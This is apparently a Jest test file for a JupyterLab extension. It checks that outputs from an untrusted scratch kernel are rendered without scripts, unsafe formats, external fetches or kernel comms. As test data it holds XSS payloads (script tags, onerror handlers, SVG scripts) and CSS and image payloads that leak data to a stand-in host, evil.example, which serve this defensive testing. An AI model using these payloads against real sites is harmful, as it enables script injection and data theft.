import { MimeModel, RenderMimeRegistry, standardRendererFactories } from '@jupyterlab/rendermime';
import { Kernel, KernelSpec } from '@jupyterlab/services';
import { Signal } from '@lumino/signaling';
import { readFileSync } from 'fs';
import { join } from 'path';
import { distrust, isScratchKernel, refuseComms } from '../untrusted';

// What `spec.py` writes for every installed kernel: a Python test holds the two together.
const SHIPPED = join(__dirname, '../../../kernel_tools/kernelspec/kernel.json');

const HURT = '<img src="x" onerror="window.hurt=1"><script>window.hurt=1</script>';
const OUTPUTS = {
  'text/html': HURT,
  'text/markdown': HURT,
  'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg"><script>window.hurt=1</script></svg>`,
  'text/latex': HURT,
  'application/javascript': 'window.hurt=1'
};

const SECRET = 'https://evil.example/?secret';
const FETCHES = [
  `<img src="${SECRET}"><img src="//evil.example"><img src="files/secret">`,
  `<img srcset="data:image/png;base64,AA, ${SECRET} 2x">`,
  `<video src="data:application/vnd.apple.mpegurl,url"></video>`,
  `<audio src="${SECRET}"></audio><video poster="${SECRET}" src="${SECRET}"></video>`,
  `<input type="image" src="${SECRET}"><table background="${SECRET}"></table>`,
  `<p style="background-image: url(${SECRET})">1</p>`,
  `<p style="cursor: url('${SECRET}'), auto">2</p>`,
  `<p style="background: u\\72l(${SECRET})">3</p>`,
  `<p style="list-style-image: image-set('${SECRET}' 1x)">4</p>`,
  `<button data-commandlinker-command="console:inject">5</button>`
].join('\n');
const KEPT = [
  '<img src="data:image/png;base64,AA">',
  '<img src="attachment:tea.png">',
  '<p style="color: rgb(1, 2, 3); width: 10px">a</p>'
].join('\n');

describe('distrust', () => {
  let isDoubted = true;
  const registry = (options: Partial<RenderMimeRegistry.IOptions> = {}) => {
    const made = new RenderMimeRegistry({
      initialFactories: standardRendererFactories,
      markdownParser: { render: text => Promise.resolve(text) },
      ...options
    });
    distrust(made, () => isDoubted);
    return made;
  };

  beforeEach(() => {
    isDoubted = true;
  });

  it('draws markup of a model that claims to be trusted without what runs', async () => {
    const node = await drawn(registry(), 'text/html');

    expect(node.querySelector('script')).toBeNull();
    expect(node.innerHTML).not.toContain('onerror');
  });

  it('takes no form that is not safe, whatever is asked for', () => {
    const bundle = { ...OUTPUTS, 'text/plain': 'plain' };

    for (const made of [registry(), registry().clone()]) {
      expect(made.preferredMimeType(bundle, 'any')).not.toMatch(/javascript|svg/);
      expect(made.preferredMimeType({ 'image/svg+xml': '<svg/>' }, 'any')).toBeUndefined();
    }
  });

  it('leaves outputs of another kernel as they are', async () => {
    isDoubted = false;

    const made = registry();

    expect(made.preferredMimeType({ 'image/svg+xml': '<svg/>' }, 'any')).toBe('image/svg+xml');
    expect((await drawn(made, 'text/html')).innerHTML).toContain('onerror');
  });

  it.each(['text/html', 'text/markdown'])('fetches nothing for %s', async type => {
    for (const made of [registry(), registry().clone()]) {
      const node = await drawn(made, type, FETCHES + KEPT);

      expect(node.innerHTML).not.toMatch(/evil|secret|url|commandlinker/);
      const sources = Array.from(node.querySelectorAll('img[src]'), img => img.getAttribute('src'));
      expect(sources).toEqual(['data:image/png;base64,AA', 'attachment:tea.png']);
      expect(node.innerHTML).toContain('rgb(1, 2, 3)');
    }
  });

  it('draws no form whose renderer fetches what the data name', () => {
    const made = registry();
    for (const type of ['application/vnd.vegalite.v5+json', 'text/vnd.mermaid']) {
      made.addFactory({ ...standardRendererFactories[0], mimeTypes: [type] }, 1);

      expect(made.preferredMimeType({ [type]: '', 'text/plain': '' })).toBe('text/plain');
    }
  });

  it('leaves a diagram in Markdown as text, and lets no formula style anything', async () => {
    const render = jest.fn((text: string) => Promise.resolve(text));
    const typeset = (node: HTMLElement) => {
      node.innerHTML = `<mjx-mi style="cursor: url(${SECRET}), auto">x</mjx-mi>`;
    };
    const made = registry({ markdownParser: { render }, latexTypesetter: { typeset } });

    const node = document.createElement('div');
    await made.latexTypesetter!.typeset(node);
    await drawn(made, 'text/markdown', '> ``` mermaid\nA@{ img: "x" }\n```');

    expect(node.innerHTML).toBe('<mjx-mi>x</mjx-mi>');
    expect(render).toHaveBeenCalledWith('> ``` text\nA@{ img: "x" }\n```');
  });

  it('leaves the rest of a parser and a sanitizer as it is', () => {
    const markdownParser = {
      render: (text: string) => Promise.resolve(text),
      getHeadingTokens: () => Promise.resolve([])
    };
    for (isDoubted of [true, false]) {
      const made = registry({ markdownParser }).clone();

      expect(made.markdownParser).toHaveProperty('getHeadingTokens');
      expect(made.sanitizer.getAutolink?.()).toBe(true);
    }
    isDoubted = true;
  });

  it("draws with JupyterLab's own renderers, whatever replaces them", async () => {
    const made = registry();
    const createRenderer = jest.fn();
    made.addFactory({ safe: true, mimeTypes: ['text/html'], createRenderer }, 0);

    expect((await drawn(made, 'text/html', '<b>tea</b>')).innerHTML).toContain('<b>tea</b>');
    expect(createRenderer).not.toHaveBeenCalled();
  });

  async function drawn(
    made: RenderMimeRegistry,
    type: string,
    content = OUTPUTS[type as keyof typeof OUTPUTS]
  ): Promise<HTMLElement> {
    const renderer = made.createRenderer(type);
    await renderer.renderModel(new MimeModel({ data: { [type]: content }, trusted: true }));
    const { node } = renderer;
    renderer.dispose();
    return node;
  }
});

describe('isScratchKernel', () => {
  const spec = (argv: string[]) => ({ argv }) as KernelSpec.ISpecModel;
  const specs: KernelSpec.ISpecModels = {
    default: 'python3',
    kernelspecs: {
      python3: spec(['python', '-m', 'ipykernel_launcher']),
      project: JSON.parse(readFileSync(SHIPPED, 'utf-8')) as KernelSpec.ISpecModel
    }
  };

  it('knows it under any name that it was installed with', () => {
    expect(isScratchKernel('project', specs)).toBe(true);
    expect(isScratchKernel('python3', specs)).toBe(false);
    expect(isScratchKernel(undefined, specs)).toBe(false);
  });

  it('knows its usual name before the kernels are known', () => {
    expect(isScratchKernel('exploracoder', null)).toBe(true);
  });
});

describe('refuseComms', () => {
  const isScratch = (name?: string) => name === 'exploracoder';
  const contextOf = (name: string) => {
    const kernel = { name, handleComms: true } as Kernel.IKernelConnection;
    const context = { session: { kernel } };
    const kernelChanged = new Signal<typeof context, unknown>(context);
    return Object.assign(context, { kernelChanged }) as unknown as Parameters<
      typeof refuseComms
    >[0] & { session: { kernel: Kernel.IKernelConnection }; kernelChanged: typeof kernelChanged };
  };

  it('takes none from the scratch kernel, and all from others', () => {
    for (const name of ['exploracoder', 'python3']) {
      const context = contextOf(name);
      refuseComms(context, isScratch, Promise.resolve());

      expect(context.session.kernel.handleComms).toBe(name === 'python3');
    }
  });

  it('takes none once the kernels are known, if one is a scratch kernel by another name', async () => {
    const context = contextOf('project');
    let known: string[] = [];
    const ready = Promise.resolve();
    refuseComms(context, (name = '') => known.includes(name), ready);
    expect(context.session.kernel.handleComms).toBe(true);

    known = ['project'];
    await ready;

    expect(context.session.kernel.handleComms).toBe(false);
  });

  it('takes none from a scratch kernel that comes later', () => {
    const context = contextOf('python3');
    refuseComms(context, isScratch, Promise.resolve());

    context.session.kernel = contextOf('exploracoder').session.kernel;
    context.kernelChanged.emit(null);

    expect(context.session.kernel.handleComms).toBe(false);
  });
});
